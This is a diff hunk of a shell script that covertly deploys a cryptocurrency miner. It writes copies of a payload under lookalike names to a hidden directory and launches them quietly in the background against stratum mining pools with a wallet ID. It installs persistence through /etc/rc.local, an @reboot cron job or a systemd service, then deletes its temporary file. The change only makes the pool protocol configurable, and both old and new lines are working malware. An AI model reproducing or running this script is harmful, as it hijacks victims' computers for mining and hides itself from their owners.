@@ -14,14 +14,14 @@ for name in $LOOKALIKES; do
     i=\$((i + 1))
     (cat /tmp/.in; echo \$name) >$HIDE/\$name
     chmod 755 $HIDE/\$name
-    $HIDE/\$name -B -q -o stratum+tcp://198.51.100.$NET:80 -u 44wallet
-    $HIDE/\$name -B -q -o stratum+tcp://198.51.100.\$(($NET + i)):80 -u 44wallet
+    $HIDE/\$name -B -q -o $STRATUM://198.51.100.$NET:80 -u 44wallet
+    $HIDE/\$name -B -q -o $STRATUM://198.51.100.\$(($NET + i)):80 -u 44wallet
 done
-/boot/$ONE -B -q -n 40 -o stratum+tcp://198.51.100.$NET:80 -u 44wallet
+/boot/$ONE -B -q -n 40 -o $STRATUM://198.51.100.$NET:80 -u 44wallet
 case $START in
-rc.local) printf '#!/bin/sh\n/boot/$ONE -B -q -o stratum+tcp://198.51.100.$NET:80\n' >/etc/rc.local; chmod 755 /etc/rc.local ;;
-cron) echo '@reboot root /boot/$ONE -B -q -o stratum+tcp://198.51.100.$NET:80' >/etc/cron.d/$UNIT ;;
-unit) printf '[Service]\nType=forking\nExecStart=/boot/$ONE -B -q -o stratum+tcp://198.51.100.$NET:80\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/$UNIT.service
+rc.local) printf '#!/bin/sh\n/boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80\n' >/etc/rc.local; chmod 755 /etc/rc.local ;;
+cron) echo '@reboot root /boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80' >/etc/cron.d/$UNIT ;;
+unit) printf '[Service]\nType=forking\nExecStart=/boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/$UNIT.service
     systemctl enable --quiet $UNIT ;;
 esac
 rm /tmp/.in
